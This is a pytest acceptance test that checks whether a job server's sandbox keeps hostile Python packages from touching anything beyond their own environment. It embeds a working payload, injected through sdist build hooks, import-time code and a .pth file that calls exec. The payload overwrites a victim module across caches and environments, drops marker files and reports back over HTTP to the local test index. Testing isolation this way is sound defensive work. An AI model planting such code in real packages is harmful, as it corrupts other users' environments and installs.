"""Packages that attack while they are built, installed or imported: no other module may notice, now or later."""

from __future__ import annotations

import json
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from orchestra_engine.sandbox import choose

from tests import packages
from tests.acceptance.serving import Orchestra, serving

VICTIM = "orchestra_victim.py"
INNOCENT = "VALUE = 'innocent'\n"
# Writes into every copy of the victim, through whatever name it finds one, and leaves a file in every folder.
STRIKE = """
import http.client, os, sys
changed = 0
places = [{place!r}, os.environ.get("UV_CACHE_DIR", "/nowhere"), sys.prefix]
for place in places:
    for parent, folders, files in os.walk(place):
        for name in files:
            if name == "orchestra_victim.py":
                try:
                    with open(os.path.join(parent, name), "r+") as file:
                        file.write("VALUE = 'poisoned'")
                    changed += parent.startswith({place!r})
                except OSError:
                    pass
        try:
            open(os.path.join(parent, "struck"), "x").close()
        except OSError:
            pass
connection = http.client.HTTPConnection({address!r})
connection.request("GET", "/struck/%d" % changed)
connection.getresponse().read()
"""
SCRIPT = """
import sys, pathlib
import {name}
pathlib.Path(sys.argv[1], "out.txt").write_text("")
print("value", getattr({name}, "VALUE", None))
"""


class Field:
    """A server, its package index, and the modules that are registered with it."""

    def __init__(self, orchestra: Orchestra, *, index: packages.Index, links: Path, folder: Path) -> None:
        self.orchestra, self.index, self.links, self.folder = orchestra, index, links, folder

    def build(self, name: str, *requirements: str, imports: str) -> str:
        """Register a module and wait for its build; the build's whole log."""
        folder = self.folder / name
        folder.mkdir()
        install = {"python_version": ">=3.11", "requirements": list(requirements), "executable": "run"}
        metadata = {"name": name, "output": {"type": "TT", "filename": "out.txt"}, "install": install}
        (folder / "metadata.json").write_text(json.dumps(metadata))
        (folder / "run.py").write_text(SCRIPT.format(name=imports))
        made: dict[str, Any] = self.orchestra.client.register_folder(folder)[0]
        self.orchestra.built(name)
        return self.orchestra.text_of(made["build"]["execution"]).decode()

    def copies(self) -> list[Path]:
        """Every copy of the victim in the server's state and in its cache."""
        return [path for place in self.lasting() for path in place.rglob(VICTIM)]

    def left(self) -> list[Path]:
        """What attacks have left in what outlives a build."""
        return [path for place in self.lasting() for path in place.rglob("struck")]

    def lasting(self) -> list[Path]:
        return [self.folder / "cache", Path(self.folder, "var", "environments")]

    def struck(self) -> list[str]:
        """How many things each attack says that it has changed, since this was asked the last time."""
        found = [path.rpartition("/")[2] for path in self.index.asked if path.startswith("/struck/")]
        self.index.asked.clear()
        return found


@pytest.fixture(scope="module")
def field(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Field]:
    """A victim, built before any attack."""
    try:
        choose("private", tmp_path_factory.mktemp("probe"))
    except RuntimeError as error:
        pytest.skip(str(error))
    with tempfile.TemporaryDirectory(prefix="o-", ignore_cleanup_errors=True) as name:
        folder, links = Path(name), Path(name, "links")
        links.mkdir()
        packages.wheel(links, "orchestra-victim", "1.0", {VICTIM: INNOCENT})
        packages.wheel(links, "orchestra-other", "1.0", {"orchestra_other.py": ""})
        with packages.index(links) as index:
            env = {"UV_DEFAULT_INDEX": index.url, "ORCHESTRA_SANDBOX": "private"}
            with serving(folder, cache=folder / "cache", env=env) as orchestra:
                field = Field(orchestra, index=index, links=links, folder=folder)
                field.build("victim", "orchestra-victim", imports="orchestra_victim")
                yield field


def attack(field: Field, kind: str) -> str:
    """Put the package of an attack into the index; its name."""
    name = f"orchestra-{kind}"
    strike = STRIKE.format(place=str(field.folder), address=field.index.address)
    if kind == "import":
        packages.wheel(field.links, name, "1.0", {"orchestra_import.py": strike})
    elif kind == "pth":
        files = {"orchestra_pth.pth": f"import os; exec({strike!r})\n", "orchestra_pth.py": ""}
        packages.wheel(field.links, name, "1.0", files)
    else:
        packages.sdist(field.links, name, "1.0", **{f"at_{kind}": strike})
    return name


@pytest.mark.parametrize("kind", ["start", "metadata", "wheel", "import", "pth"])
def test_a_hostile_package_changes_nothing_but_its_own_environment(field: Field, kind: str) -> None:
    name = attack(field, kind)
    field.build(f"attacker_{kind}", name, "orchestra-victim", imports=name.replace("-", "_"))
    assert set(field.struck()) == {"0"}
    assert {path.read_text() for path in field.copies()} == {INNOCENT}
    assert field.left() == []
    field.build(f"later_{kind}", "orchestra-victim", "orchestra-other", imports="orchestra_victim")
    assert {path.read_text() for path in field.copies()} == {INNOCENT}
    run = field.orchestra.client.run(f"later_{kind}", start="2001-03-28T00:00:00", stop="2001-03-29T00:00:00")
    assert field.orchestra.ended(run["id"])["state"] == "SUCCEEDED"
    assert b"value innocent" in field.orchestra.text_of(run["id"])
